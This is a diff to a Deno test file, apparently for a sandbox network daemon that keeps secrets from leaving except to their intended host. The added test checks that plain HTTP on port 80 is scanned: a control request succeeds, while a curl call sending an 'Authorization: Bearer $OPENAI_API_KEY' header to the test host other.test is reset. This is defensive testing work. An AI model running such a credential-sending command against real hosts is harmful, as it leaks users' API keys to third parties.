@@ -12,6 +12,9 @@
  * - `other.test` (203.0.113.206:443): receives nothing of a request that
  *   carries the placeholder (netd answers 403), and does receive a plain
  *   request from the same client in the same run (the positive control).
+ *   The same on its plain HTTP port 80 (not intercepted, scanned): netd
+ *   resets the flow, and the server's raw bytes of that connection hold
+ *   nothing of the request.
  * - No file under the state home (SQLite, vm.json, logs, console, disks)
  *   holds the value; the same search finds the placeholder (its control).
  * - A stopped sandbox with secrets cannot start again (SECRET_UNAVAILABLE).
@@ -165,6 +168,23 @@ Deno.test({
     assertEquals(atOther.map((r) => r.target), ["/plain"], "other.test received only the plain request");
     assert(!JSON.stringify(https.records()).includes(placeholder), "no placeholder reached any server");
     assert(!JSON.stringify(atOther).includes(VALUE), "other.test never saw the value");
+
+    // Plain HTTP (port 80) is not intercepted but scanned: a plain request arrives (control); one carrying the
+    // placeholder is reset by netd (curl fails) and the server's raw record of that connection holds nothing of it.
+    const plain80 = await curl(sb, "http://other.test/plain80");
+    assertEquals(plain80.code, "200", plain80.out);
+    const leak80 = await curl(sb, `-H "Authorization: Bearer $OPENAI_API_KEY" http://other.test/leak80`);
+    assertEquals(leak80.code, "000", leak80.out);
+    const raw = () => https.records().filter((r) => r.raw !== undefined);
+    for (let i = 0; i < 50 && raw().length < 2; i++) await new Promise((r) => setTimeout(r, 100));
+    const conns80 = raw();
+    assertEquals(conns80.length, 2, `both port-80 connections reached the server: ${JSON.stringify(conns80)}`);
+    assert(conns80.some((r) => r.raw!.includes("GET /plain80 ")), JSON.stringify(conns80));
+    assert(
+      !conns80.some((r) => r.raw!.includes("/leak80")),
+      `nothing of the leaking request: ${JSON.stringify(conns80)}`,
+    );
+    assert(!JSON.stringify(https.records()).includes(placeholder), "no placeholder reached any server");
 
     setTimeout(() => eventsDone.abort(), 5_000);
     await collecting;
